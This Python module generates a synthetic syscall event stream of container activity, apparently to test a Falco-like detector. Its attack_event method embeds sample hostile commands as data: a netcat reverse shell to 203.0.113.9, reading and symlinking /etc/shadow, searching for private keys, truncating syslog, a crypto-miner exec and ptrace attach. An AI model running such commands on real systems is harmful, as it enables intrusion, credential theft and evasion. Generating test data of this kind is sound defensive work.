"""Deterministic generator of a realistic syscall event stream (hardhull JSONL recording).

The mix imitates what a node with a handful of service containers emits after Falco-like
in-kernel filtering: many file opens (libraries, /etc lookups, /proc reads, logs, temp
files), connects/accepts of services, execs of shells and common tools with realistic
argv and parent chains, process exits, a few chmod/unlink/rename/mkdir/setuid/socket
calls, and a small fraction (~0.2%) of events that Falco's stable rules flag (reading
/etc/shadow, a terminal shell in a container, netcat -e, private-key searches, log
clearing, ptrace attach, an exe from the upper layer, /dev/shm execs, a packet socket,
symlinks over /etc files, contacting the API server).
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import orjson

T0 = 1_718_000_000_000_000_000  # 2024-06-10T06:13:20Z

CONTAINERS: list[dict[str, Any]] = [
    {
        "id": "3f2a9c1b7d0e",
        "name": "web",
        "image": "docker.io/library/nginx:1.27",
        "image_repository": "docker.io/library/nginx",
        "image_tag": "1.27",
        "image_digest": "sha256:" + "a1" * 32,
        "engine": "containerd",
        "pod_name": "web-7d9f8c6b5-x2x7q",
        "pod_namespace": "shop",
        "pod_labels": {"app": "web"},
        "_main": ("nginx", "/usr/sbin/nginx", ["-g", "daemon off;"]),
        "_logs": ["/var/log/nginx/access.log", "/var/log/nginx/error.log"],
    },
    {
        "id": "9b1e0c2d4a6f",
        "name": "api",
        "image": "registry.example.com/shop/api:2.3.1",
        "image_repository": "registry.example.com/shop/api",
        "image_tag": "2.3.1",
        "image_digest": "sha256:" + "b2" * 32,
        "engine": "containerd",
        "pod_name": "api-5c8d7f9b6-q8k2m",
        "pod_namespace": "shop",
        "pod_labels": {"app": "api"},
        "_main": ("gunicorn", "/usr/local/bin/python3.12", ["app:wsgi", "-w", "4"]),
        "_logs": ["/var/log/api/app.log"],
    },
    {
        "id": "c0ffee12ab34",
        "name": "postgres",
        "image": "docker.io/library/postgres:16.3",
        "image_repository": "docker.io/library/postgres",
        "image_tag": "16.3",
        "image_digest": "sha256:" + "c3" * 32,
        "engine": "containerd",
        "pod_name": "db-0",
        "pod_namespace": "shop",
        "pod_labels": {"app": "db"},
        "_main": ("postgres", "/usr/lib/postgresql/16/bin/postgres", ["-D", "/var/lib/pg"]),
        "_logs": ["/var/log/postgresql/postgresql-16-main.log"],
    },
    {
        "id": "5e6d7c8b9a01",
        "name": "redis",
        "image": "docker.io/library/redis:7.2",
        "image_repository": "docker.io/library/redis",
        "image_tag": "7.2",
        "image_digest": "sha256:" + "d4" * 32,
        "engine": "containerd",
        "pod_name": "cache-6f7b8c9d0-zz9xw",
        "pod_namespace": "shop",
        "pod_labels": {"app": "cache"},
        "_main": ("redis-server", "/usr/local/bin/redis-server", ["*:6379"]),
        "_logs": ["/data/redis.log"],
    },
    {
        "id": "77aa88bb99cc",
        "name": "frontend",
        "image": "ghcr.io/acme/frontend:4.0.2",
        "image_repository": "ghcr.io/acme/frontend",
        "image_tag": "4.0.2",
        "image_digest": "sha256:" + "e5" * 32,
        "engine": "containerd",
        "pod_name": "frontend-8b9c0d1e2-p4p4p",
        "pod_namespace": "web",
        "pod_labels": {"app": "frontend"},
        "_main": ("node", "/usr/local/bin/node", ["server.js"]),
        "_logs": ["/app/logs/server.log"],
    },
    {
        "id": "host",
        "name": "host",
        "_main": ("kubelet", "/usr/bin/kubelet", ["--config=/var/lib/kubelet/config.yaml"]),
        "_logs": ["/var/log/syslog", "/var/log/auth.log"],
    },
]

LIBS = [
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3",
    "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
    "/usr/lib/x86_64-linux-gnu/libz.so.1",
    "/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0",
    "/usr/lib/x86_64-linux-gnu/libm.so.6",
    "/usr/lib/locale/C.utf8/LC_CTYPE",
    "/usr/lib/python3.12/encodings/__init__.py",
]
ETC = [
    "/etc/ld.so.cache",
    "/etc/passwd",
    "/etc/group",
    "/etc/nsswitch.conf",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/localtime",
    "/etc/ssl/certs/ca-certificates.crt",
    "/etc/host.conf",
    "/etc/gai.conf",
]
PROC = ["/proc/self/stat", "/proc/meminfo", "/proc/stat", "/proc/loadavg", "/proc/self/maps"]
CONNECTS = [
    ("10.96.0.10", 53, "udp"),
    ("10.244.1.17", 5432, "tcp"),
    ("10.244.2.9", 6379, "tcp"),
    ("10.244.1.33", 8080, "tcp"),
    ("140.82.112.3", 443, "tcp"),
    ("151.101.1.69", 443, "tcp"),
    ("169.254.169.254", 80, "tcp"),
]
TOOLS: list[tuple[str, str, list[str]]] = [
    ("sh", "/usr/bin/dash", ["-c", "date +%s"]),
    ("sh", "/usr/bin/dash", ["-c", "pg_isready -U postgres"]),
    ("date", "/usr/bin/date", ["+%s"]),
    ("sleep", "/usr/bin/sleep", ["5"]),
    ("ls", "/usr/bin/ls", ["-la", "/app"]),
    ("grep", "/usr/bin/grep", ["-q", "ready", "/tmp/status"]),
    ("curl", "/usr/bin/curl", ["-sf", "http://127.0.0.1:8080/healthz"]),
    ("python3", "/usr/local/bin/python3.12", ["-m", "app.worker"]),
    ("node", "/usr/local/bin/node", ["scripts/warm-cache.js"]),
    ("ps", "/usr/bin/ps", ["aux"]),
    ("redis-cli", "/usr/local/bin/redis-cli", ["ping"]),
    ("pg_isready", "/usr/lib/postgresql/16/bin/pg_isready", ["-U", "postgres"]),
]
SHIM = {
    "pid": 1,
    "name": "containerd-shim",
    "exe": "containerd-shim",
    "exepath": "/usr/bin/containerd-shim-runc-v2",
    "args": [],
}


def _anc(name: str, exepath: str, args: list[str], pid: int) -> dict[str, Any]:
    return {"pid": pid, "name": name, "exe": name, "exepath": exepath, "args": args}


class Gen:
    def __init__(self, seed: int = 20240610) -> None:
        self.r = random.Random(seed)
        self.t = T0

    def _base(
        self,
        etype: str,
        c: dict[str, Any],
        proc: tuple[str, str, list[str]],
        pid: int,
        ancestors: list[dict[str, Any]],
        uid: int = 0,
    ) -> dict[str, Any]:
        self.t += self.r.randint(2_000, 60_000)
        name, exepath, args = proc
        fields: dict[str, Any] = {
            "proc.pid": pid,
            "proc.ppid": ancestors[0]["pid"] if ancestors else 0,
            "proc.name": name[:15],
            "proc.exe": name,
            "proc.exepath": exepath,
            "proc.args": args,
            "proc.ancestors": ancestors,
            "proc.tty": 0,
            "proc.cwd": "/",
            "user.uid": uid,
            "user.name": "root" if uid == 0 else "app",
            "user.loginuid": -1,
            "group.gid": uid,
            "evt.dir": "<",
            "evt.res": "SUCCESS",
            "container.id": c["id"],
        }
        cont = {k: v for k, v in c.items() if not k.startswith("_")}
        return {
            "source": "syscall",
            "type": etype,
            "time": self.t,
            "fields": fields,
            "container": cont,
        }

    def _main(self, c: dict[str, Any]) -> tuple[tuple[str, str, list[str]], int, list[Any]]:
        pid = 10 + self.r.randint(0, 40)
        return (
            c["_main"],
            pid,
            [SHIM if c["id"] != "host" else _anc("systemd", "/usr/lib/systemd/systemd", [], 1)],
        )

    def open_event(self, c: dict[str, Any]) -> dict[str, Any]:
        proc, pid, anc = self._main(c)
        roll = self.r.random()
        if roll < 0.30:
            path, flags = self.r.choice(LIBS), "O_RDONLY|O_CLOEXEC"
        elif roll < 0.55:
            path, flags = self.r.choice(ETC), "O_RDONLY|O_CLOEXEC"
        elif roll < 0.75:
            path = self.r.choice(PROC).replace("self", str(pid), self.r.random() < 0.3)
            flags = "O_RDONLY"
        elif roll < 0.90:
            path, flags = self.r.choice(c["_logs"]), "O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC"
        else:
            path = (
                f"/tmp/tmp{self.r.randint(0, 99999):05d}.{self.r.choice(['json', 'lock', 'sock'])}"
            )
            flags = "O_RDWR|O_CREAT|O_EXCL|O_CLOEXEC"
        ev = self._base(self.r.choice(["openat", "openat", "openat", "open"]), c, proc, pid, anc)
        fd = self.r.randint(3, 60)
        ev["fields"].update(
            {
                "fd.num": fd,
                "fd.name": path,
                "fd.typechar": "f",
                "evt.arg.flags": flags,
                "evt.rawres": fd,
                "evt.arg.name": path,
                "evt.arg.mode": 0o644,
            }
        )
        if self.r.random() < 0.04:
            ev["fields"].update({"evt.res": "ENOENT", "evt.rawres": -2, "fd.num": -1})
        return ev

    def net_event(self, c: dict[str, Any]) -> dict[str, Any]:
        proc, pid, anc = self._main(c)
        ip, port, proto = self.r.choice(CONNECTS)
        sport = self.r.randint(32768, 60999)
        accept = self.r.random() < 0.3
        ev = self._base("accept4" if accept else "connect", c, proc, pid, anc)
        local = f"10.244.{self.r.randint(1, 3)}.{self.r.randint(2, 250)}"
        if accept:
            cip, cport, sip, sport2 = ip, sport, local, 8080
        else:
            cip, cport, sip, sport2 = local, sport, ip, port
        fd = self.r.randint(3, 200)
        ev["fields"].update(
            {
                "fd.num": fd,
                "fd.typechar": "4",
                "fd.sockfamily": "ip",
                "fd.l4proto": proto,
                "fd.name": f"{cip}:{cport}->{sip}:{sport2}",
                "fd.cip": cip,
                "fd.cport": cport,
                "fd.sip": sip,
                "fd.sport": sport2,
                "evt.rawres": 0 if not accept else fd,
            }
        )
        return ev

    def exec_event(self, c: dict[str, Any]) -> dict[str, Any]:
        mproc, mpid, manc = self._main(c)
        tool = self.r.choice(TOOLS)
        if tool[0] == "sh" and c["id"] != "host":
            # exec probes: the runtime starts the shell (parent runc, then the shim)
            chain = [_anc("runc", "/usr/bin/runc", ["init"], 9000), SHIM]
        else:
            chain = [_anc(mproc[0], mproc[1], mproc[2], mpid), *manc]
        ev = self._base("execve", c, tool, self.r.randint(100, 32000), chain)
        ev["fields"]["evt.arg.flags"] = ""
        ev["fields"]["proc.is_exe_upper_layer"] = False
        return ev

    def exit_event(self, c: dict[str, Any]) -> dict[str, Any]:
        proc, pid, anc = self._main(c)
        tool = self.r.choice(TOOLS)
        parent = _anc(proc[0], proc[1], proc[2], pid)
        ev = self._base("procexit", c, tool, self.r.randint(100, 32000), [parent, *anc])
        ev["fields"]["evt.arg.status"] = 0
        return ev

    def misc_event(self, c: dict[str, Any]) -> dict[str, Any]:
        proc, pid, anc = self._main(c)
        kind = self.r.choice(
            [
                "unlinkat",
                "unlinkat",
                "renameat2",
                "mkdirat",
                "fchmodat",
                "chmod",
                "setuid",
                "socket",
                "dup2",
                "clone",
            ]
        )
        ev = self._base(kind, c, proc, pid, anc)
        f = ev["fields"]
        tmp = f"/tmp/tmp{self.r.randint(0, 99999):05d}"
        if kind == "unlinkat":
            f.update({"evt.arg.name": tmp + ".lock", "fd.name": tmp + ".lock", "evt.arg.flags": ""})
        elif kind == "renameat2":
            f.update({"evt.arg.oldpath": tmp + ".tmp", "evt.arg.newpath": tmp + ".json"})
        elif kind == "mkdirat":
            f.update({"evt.arg.path": tmp + ".d", "evt.arg.mode": 0o700})
        elif kind in ("fchmodat", "chmod"):
            f.update({"evt.arg.filename": tmp + ".sock", "evt.arg.mode": "S_IRUSR|S_IWUSR"})
        elif kind == "setuid":
            f.update({"evt.arg.uid": 101, "user.uid": 0})
        elif kind == "socket":
            f.update(
                {"evt.arg.domain": "AF_INET", "evt.arg.type": "SOCK_STREAM", "evt.arg.proto": 0}
            )
        elif kind == "dup2":
            f.update({"fd.num": 1, "fd.name": "/dev/null", "fd.typechar": "f"})
        return ev

    def attack_event(self, c: dict[str, Any]) -> dict[str, Any]:
        """One event that a stable Falco rule flags."""
        if c["id"] == "host":
            c = CONTAINERS[0]
        _mproc, mpid, _manc = self._main(c)
        bash = ("bash", "/usr/bin/bash", [])
        shell_parent = _anc("bash", "/usr/bin/bash", [], 7000)
        which = self.r.randrange(10)
        if which == 0:  # Read sensitive file untrusted
            ev = self._base(
                "openat", c, ("cat", "/usr/bin/cat", ["/etc/shadow"]), 7001, [shell_parent, SHIM]
            )
            ev["fields"].update(
                {
                    "fd.num": 3,
                    "fd.name": "/etc/shadow",
                    "fd.typechar": "f",
                    "evt.arg.flags": "O_RDONLY",
                    "evt.rawres": 3,
                }
            )
        elif which == 1:  # Terminal shell in container
            ev = self._base("execve", c, bash, 7000, [SHIM])
            ev["fields"].update({"proc.tty": 34816, "evt.arg.flags": ""})
        elif which == 2:  # Netcat Remote Code Execution in Container
            ev = self._base(
                "execve",
                c,
                ("nc", "/usr/bin/nc", ["-e", "/bin/sh", "203.0.113.9", "4444"]),
                7002,
                [shell_parent, SHIM],
            )
        elif which == 3:  # Search Private Keys or Passwords
            ev = self._base(
                "execve",
                c,
                ("find", "/usr/bin/find", ["/", "-name", "id_rsa"]),
                7003,
                [shell_parent, SHIM],
            )
        elif which == 4:  # Clear Log Activities
            ev = self._base("openat", c, ("bash", "/usr/bin/bash", []), 7000, [SHIM])
            ev["fields"].update(
                {
                    "fd.num": 4,
                    "fd.name": "/var/log/syslog",
                    "fd.typechar": "f",
                    "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC",
                    "evt.rawres": 4,
                }
            )
        elif which == 5:  # PTRACE attached to process
            ev = self._base(
                "ptrace", c, ("gdb", "/usr/bin/gdb", ["-p", str(mpid)]), 7004, [shell_parent, SHIM]
            )
            ev["fields"].update({"evt.arg.request": "PTRACE_ATTACH", "evt.rawres": 0})
        elif which == 6:  # Drop and execute new binary in container
            ev = self._base(
                "execve",
                c,
                ("xmrig", "/tmp/xmrig", ["--donate-level=1"]),
                7005,
                [shell_parent, SHIM],
            )
            ev["fields"].update({"proc.is_exe_upper_layer": True, "evt.arg.flags": ""})
        elif which == 7:  # Execution from /dev/shm
            ev = self._base("execve", c, ("run", "/dev/shm/run", []), 7006, [shell_parent, SHIM])
            ev["fields"].update({"proc.exe": "/dev/shm/run", "proc.cwd": "/dev/shm/"})
        elif which == 8:  # Create Symlink Over Sensitive Files
            ev = self._base(
                "symlinkat",
                c,
                ("ln", "/usr/bin/ln", ["-s", "/etc/shadow", "/tmp/s"]),
                7007,
                [shell_parent, SHIM],
            )
            ev["fields"].update({"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/s"})
        else:  # Packet socket created in container
            ev = self._base(
                "socket",
                c,
                ("tcpdump", "/usr/bin/tcpdump", ["-i", "eth0"]),
                7008,
                [shell_parent, SHIM],
            )
            ev["fields"].update(
                {"evt.arg.domain": "AF_PACKET", "evt.arg.type": "SOCK_RAW", "evt.arg.proto": 768}
            )
        return ev

    def stream(self, n: int) -> Iterator[dict[str, Any]]:
        weights: list[tuple[float, Callable[[dict[str, Any]], dict[str, Any]]]] = [
            (0.55, self.open_event),
            (0.17, self.net_event),
            (0.10, self.exec_event),
            (0.09, self.exit_event),
            (0.088, self.misc_event),
            (0.002, self.attack_event),
        ]
        cum: list[tuple[float, Callable[[dict[str, Any]], dict[str, Any]]]] = []
        total = 0.0
        for w, fn in weights:
            total += w
            cum.append((total, fn))
        r = self.r
        for _ in range(n):
            x = r.random() * total
            fn = next(f for bound, f in cum if x < bound)
            yield fn(r.choice(CONTAINERS))


def write_stream(path: Path, n: int, seed: int = 20240610) -> None:
    """Write ``n`` events to ``path`` (through a temporary file)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(path.name + ".tmp")
    dumps = orjson.dumps
    with tmp.open("wb") as out:
        for ev in Gen(seed).stream(n):
            out.write(dumps(ev))
            out.write(b"\n")
    tmp.replace(path)
